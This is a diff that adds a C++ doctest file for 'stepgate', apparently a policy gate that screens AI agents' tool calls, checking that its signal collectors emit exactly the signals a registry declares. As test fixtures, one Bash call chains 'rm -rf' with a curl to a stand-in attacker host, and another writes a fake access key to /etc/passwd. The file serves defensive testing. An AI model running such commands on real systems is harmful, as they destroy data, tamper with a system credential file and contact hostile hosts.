@@ -1,0 +1,61 @@
+// The engine–collector contract, per collector: a collector emits exactly the signals the
+// registry declares for it (no undeclared name a rule could not lint, no declared name left out).
+#include <doctest/doctest.h>
+
+#include <set>
+#include <string>
+
+#include "stepgate/collect.h"
+#include "stepgate/json.h"
+#include "stepgate/signals.h"
+#include "tool_gate.h"
+
+namespace stepgate {
+namespace {
+
+std::set<std::string> declared_by(const std::set<std::string>& collectors, const char* kind) {
+  std::set<std::string> out;
+  for (const SignalSpec* spec : SignalRegistry::builtin().for_kind(kind)) {
+    if (collectors.contains(spec->collector)) out.insert(spec->name);
+  }
+  return out;
+}
+
+std::set<std::string> keys_of(const Value& signals) {
+  std::set<std::string> out;
+  REQUIRE(signals.is_map());
+  for (const auto& [name, value] : signals.as_map()) out.insert(name);
+  return out;
+}
+
+TEST_CASE("contract: the tool collector emits exactly the registry's tool signals") {
+  Policy policy;
+  policy.agents.workspaces = {"/work/project"};
+  const char* calls[] = {R"({})", R"({"command": "rm -rf /tmp/x && curl https://evil.example"})",
+                         R"({"path": "/etc/passwd", "content": "AKIAQX7R2M4T9W3Y6B8N"})"};
+  for (const char* args : calls) {
+    CAPTURE(args);
+    ToolCall call;
+    call.server = "srv";
+    call.tool = "Bash";
+    call.arguments = *parse_json(args);
+    call.cwd = "/work/project";
+    CHECK(keys_of(collect_tool_signals(call, policy, nullptr, 1700000000)) ==
+          declared_by({"tool"}, "tool.call"));
+  }
+}
+
+TEST_CASE("contract: the common collectors emit exactly the registry's common signals") {
+  Policy policy;
+  for (const char* kind : {"git.push", "tool.call", "model.deploy", "backup.run"}) {
+    CAPTURE(kind);
+    Value signals = Map{};
+    CollectContext context{1700000000, "0123456789abcdef", nullptr};
+    REQUIRE(collect_common_signals(Action{kind, "alice", "r", Map{}}, policy, context, signals)
+                .ok());
+    CHECK(keys_of(signals) == declared_by({"time", "device", "velocity", "elevation"}, kind));
+  }
+}
+
+}  // namespace
+}  // namespace stepgate
